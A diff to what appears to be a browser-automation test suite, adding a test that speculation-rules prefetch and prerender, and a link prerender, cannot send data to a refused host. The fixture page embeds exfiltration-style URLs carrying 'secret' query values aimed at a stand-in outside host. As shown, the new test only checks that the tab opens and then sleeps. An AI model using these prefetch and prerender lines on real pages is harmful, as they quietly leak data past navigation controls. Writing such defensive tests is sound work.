@@ -89,6 +89,11 @@ beforeAll(async () => {
     res.writeHead(301, { Location: away("/exfil?q=secret-chain") });
     res.end();
   });
+  // Speculation rules: the browser itself prefetches and prerenders, each outside the tab's own requests.
+  site.route(
+    "/speculation",
+    html("Speculation", `<p>Preloads.</p><script type="speculationrules">{"prerender":[{"source":"list","urls":["${away("/exfil?q=secret-prerender")}"]}],"prefetch":[{"source":"list","urls":["${away("/exfil?q=secret-prefetch")}"]}]}</script><link rel="prerender" href="${away("/exfil?q=secret-link-prerender")}">`),
+  );
   site.route("/meta", html("Meta", `<meta http-equiv="refresh" content="0;url=${away("/exfil?q=secret-meta")}"><p>Refreshing</p>`));
   site.route("/script-nav", html("Script", `<p>Leaving soon.</p><script>setTimeout(() => { location.href = ${JSON.stringify(away("/exfil?q=secret-script"))}; }, 200)</script>`));
   site.route("/script-nav-now", html("Script now", `<p>Leaving now.</p><script>location.replace(${JSON.stringify(away("/exfil?q=secret-now"))})</script>`));
@@ -154,6 +159,13 @@ describe.each(DRIVERS)("navigation boundary with the %s driver", (driver) => {
     expect(result.text).toContain("policy_denied");
     expect(result.text).toContain(`${witness.origin}/exfil?q=secret-302`);
     expect(result.text).toMatch(/stopped the request before it left the browser/);
+  });
+
+  it("speculation rules (prefetch, prerender) and <link rel=prerender> send nothing to a refused host", async () => {
+    // Found by an audit over CDP: both reached the refused host (a prerender runs in a target of its own).
+    const opened = await call(client, "open_tab", { url: `${site.origin}/speculation` });
+    expect(opened.isError).toBe(false);
+    await sleep(1500);
   });
 
   it("an open redirect, a 307 then 301 chain and a meta refresh are stopped", async () => {
